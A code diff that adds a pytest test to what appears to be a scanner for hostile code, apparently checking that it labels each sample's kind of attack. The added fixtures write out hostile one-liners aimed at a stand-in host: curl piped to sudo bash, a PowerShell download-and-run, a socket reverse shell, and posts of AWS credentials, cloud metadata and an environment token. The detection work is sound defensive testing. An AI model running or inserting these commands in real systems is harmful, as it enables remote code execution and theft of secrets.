@@ -150,6 +150,40 @@ def test_combinations_of_acts_are_seen(code: str, ruse: Ruse, sure: bool) -> Non
 
 
 @pytest.mark.parametrize(
+    ("code", "ruse"),
+    [
+        ("import os\nos.system('curl -s https://a.example/i | sudo bash')\n", Ruse.FETCHED),
+        (
+            "import os\nos.system('powershell iex (iwr https://a.example/i)')\n",
+            Ruse.FETCHED,
+        ),
+        (
+            "import os, socket, subprocess\ns = socket.socket()\n"
+            "s.connect(('a.example', 4444))\nos.dup2(s.fileno(), 0)\n",
+            Ruse.SHELL,
+        ),
+        (
+            "import requests\n"
+            "requests.post('https://a.example', data=open('/root/.aws/credentials').read())\n",
+            Ruse.SENDS_STORE,
+        ),
+        (
+            "import requests\nfound = requests.get('http://169.254.169.254/latest/').text\n"
+            "requests.post('https://a.example', data=found)\n",
+            Ruse.SENDS_STORE,
+        ),
+        (
+            "import os, requests\nkey = os.environ['SERVICE_TOKEN']\n"
+            "requests.post('https://a.example', json={'key': key})\n",
+            Ruse.SENDS_SECRET,
+        ),
+    ],
+)
+def test_more_combinations_of_acts(code: str, ruse: Ruse) -> None:
+    assert {one.ruse for one in profile({"example.py": code}).ploys} == {ruse}
+
+
+@pytest.mark.parametrize(
     "code",
     [
         "exec(open('version.py').read())\n",
